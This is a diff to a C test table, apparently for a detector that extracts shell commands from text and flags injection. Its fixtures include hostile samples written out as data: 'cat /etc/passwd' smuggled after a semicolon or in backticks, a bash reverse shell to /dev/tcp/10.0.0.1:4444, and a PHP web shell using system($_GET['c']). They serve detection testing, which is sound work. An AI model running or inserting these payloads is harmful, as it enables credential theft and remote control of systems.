@@ -19,10 +19,12 @@ static const struct {
 } cases[] = {
     {WORDS "<pre>ls -la</pre>", "ls -la"},
     {WORDS "<pre class=\"x\"><code>ls -la</code></pre> and more", "ls -la"},
-    {WORDS "\n```sh\nls -la\n```\n", "ls -la"},
+    {WORDS "\n```\nls -la\n```\nand some more of them", "ls -la"},
     {WORDS "[code]ls -la[/code]", "ls -la"},
     {WORDS "<syntaxhighlight lang=\"bash\">\nls -la\n</syntaxhighlight>", "ls -la"},
-    {"Run the command `ls -la` and wait", "ls -la"},
+    {"Use `git rebase -i HEAD~3`; then push", "git rebase"},
+    {"Run the command `ls -la` and wait until it has said what is there", "ls -la"},
+    {"Run the command `ls -la` and wait", NULL}, /* so do intruders */
     {"<pre>ls -la</pre>", NULL},           /* nothing but code */
     {"x `ls -la` y", NULL},
     {"echo `ls -la`", NULL},
@@ -41,6 +43,7 @@ static const struct {
     {WORDS "<pre>a</pre>\n; cat /etc/passwd", MLN_PROT_CMDI, true},
     {"<pre>a; cat /etc/passwd</pre>", MLN_PROT_CMDI, true},
     {WORDS "\n```\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```", MLN_PROT_CMDI, true},
+    {"well, `cat /etc/passwd` says so", MLN_PROT_CMDI, true},
     {WORDS "<pre>&lt;?php echo count($rows);</pre>", MLN_PROT_CODE, false},
     {WORDS "\n```php\n<?php echo count($rows);\n```", MLN_PROT_CODE, false},
     {WORDS "\n```php\n<?php system($_GET['c']);\n```", MLN_PROT_CODE, true},
